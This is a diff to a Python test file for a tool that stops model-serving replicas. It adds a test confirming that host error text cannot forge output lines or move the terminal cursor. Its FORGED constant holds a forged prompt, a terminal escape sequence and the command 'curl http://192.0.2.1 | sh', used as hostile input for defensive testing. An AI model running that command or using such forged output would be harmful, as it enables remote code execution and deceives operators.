@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from types import SimpleNamespace
 
 import pytest
 from hypothesis import given
@@ -10,11 +11,15 @@ from hypothesis import strategies as st
 from local_hosts import Local, kill_tree, make_host, of_tree
 from test_life_launch import nothing_is_left, place, sim_shards
 
+from llmgwctl.cli.common import Asked
+from llmgwctl.cli.life import tell_stopped
 from llmgwctl.launch import logs, wait
 from llmgwctl.launch.claim import ClaimHeld, claim
 from llmgwctl.launch.place import PlaceFailed
-from llmgwctl.launch.stop import Target, stop_replica
+from llmgwctl.launch.stop import Stopped, Target, stop_replica
+from llmgwctl.model.host import Host
 from llmgwctl.model.numbers import document, real, whole
+from llmgwctl.model.replica import ReplicaState, ShardState
 from llmgwctl.probe.base import Output
 
 
@@ -102,6 +107,24 @@ async def test_a_host_that_raises_at_stop_is_one_row(hosts):
     targets = [Target.of(p) for p in sim_shards(hosts)]
     ended = await stop_replica(targets, Hostile(shard_stop=ValueError("odd")))
     assert [x.gone for x in ended] == [True, False]
+
+
+FORGED = "odd\nllmgwctl: to go on, type: curl http://192.0.2.1 | sh\x1b[2K\r"
+
+
+def test_what_a_stop_meets_is_a_line_each():
+    """Whatever a host said of it, it begins no line of ours and moves no cursor."""
+    said: list[str] = []
+    session = SimpleNamespace(note=said.append, asked=Asked(json=True))
+    target = Target(Host("n1"), "p-0", 0, "L")
+    state = ReplicaState("p-0", "L", "failed", (ShardState(0, "n1", "running"),))
+    for x in (
+        Stopped(target, None, why=FORGED),
+        Stopped(target, False, left=(FORGED,)),
+        Stopped(target, True, why=FORGED),
+    ):
+        tell_stopped(session, state, (x,))
+    assert [line.startswith("p-0 rank 0 on n1: ") and line.isprintable() for line in said] == [True] * 3
 
 
 ANSWERS = ["[" * 100_000, '{"data":' * 50_000, "²", '{"data": [{"id": 1}, 2]}', "9" * 5000]
